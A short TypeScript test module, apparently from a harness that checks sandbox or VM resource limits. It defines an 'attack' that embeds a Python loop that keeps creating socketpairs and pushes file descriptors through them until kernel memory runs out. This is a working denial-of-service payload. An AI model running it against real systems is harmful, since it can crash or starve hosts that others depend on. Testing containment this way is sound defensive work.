import type { Attack } from "../attack.ts";
import { pileUp } from "./pile.helper.ts";

export const attack: Attack = {
  promise: 9,
  must: "Descriptors on their way count.",
  needs: ["kvm", "python"],
  run: (stage) =>
    pileUp(stage, {
      code: `k = []
while True:
  k += socket.socketpair(); k[-1].setblocking(False)
  try:
    while True: socket.send_fds(k[-1], [b'x'], [0] * 253)
  except BlockingIOError: pass`,
      ends: "memory",
    }),
};
